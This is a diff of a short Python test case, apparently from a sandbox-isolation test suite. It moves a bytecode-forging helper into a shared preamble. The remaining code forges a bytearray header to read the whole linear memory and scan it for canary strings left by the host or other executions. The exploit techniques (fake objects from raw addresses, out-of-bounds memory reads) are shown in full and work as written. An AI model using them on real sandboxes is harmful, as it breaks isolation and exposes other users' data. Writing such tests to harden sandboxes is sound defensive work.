@@ -1,21 +1,3 @@
-import opcode
-import struct
-import types
-
-RESUME, EXTENDED_ARG, LOAD_CONST, RETURN_VALUE = (
-    opcode.opmap[name] for name in ("RESUME", "EXTENDED_ARG", "LOAD_CONST", "RETURN_VALUE")
-)
-BYTES_DATA, TUPLE_ITEMS = 16, 12
-
-
-def object_at(address):
-    pointer = struct.pack("<I", address)
-    index = ((id(pointer) + BYTES_DATA - (id(()) + TUPLE_ITEMS)) // 4) & 0x3FFFFFFF
-    high = [part for shift in (24, 16, 8) for part in (EXTENDED_ARG, index >> shift & 255)]
-    forged = bytes([RESUME, 0, *high, LOAD_CONST, index & 255, RETURN_VALUE, 0])
-    return types.FunctionType((lambda: 1).__code__.replace(co_code=forged, co_consts=()), {})()
-
-
 # All of the linear memory as one bytearray: what was ever in it of the host, or of another execution?
 readable = 25 << 20
 header = struct.pack("<IIIIIII", 1 << 30, id(bytearray), readable, readable, 0, 0, 0)
@@ -25,6 +7,7 @@ while place >= 0:
     print(memory[place : place + 80])
     place = memory.find(b"CANARY", place + 6)
 len(memory) == readable and memory.count(b"CANARY") > 0
+#> preamble: "forged_objects"
 #> class: "host leak"
 #> outcome: ["completed"]
 #> value: true
